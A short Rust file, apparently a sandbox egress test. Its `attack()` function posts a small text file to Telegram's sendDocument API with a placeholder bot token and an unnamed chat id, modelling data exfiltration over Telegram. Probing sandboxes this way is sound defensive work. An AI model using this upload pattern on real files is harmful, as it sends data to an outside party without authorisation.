//! Sends a file to a chat of Telegram that nobody named.

use crate::wasi::Ask;
use crate::{Attempt, got};

const BODY: &str = "--b\r\nContent-Disposition: form-data; name=\"document\"; filename=\"a.txt\"\r\nContent-Type: text/plain\r\n\r\nhi\r\n--b--\r\n";

pub fn attack() -> Attempt {
    let path = "/botplaceholder-telegram-bot-token/sendDocument?chat_id=-1009";
    let answer = Ask::at("api.telegram.org", path)
        .header("content-type", "multipart/form-data; boundary=b")
        .post(BODY.as_bytes())?;
    Ok(got(format!("status {}", answer.status())))
}
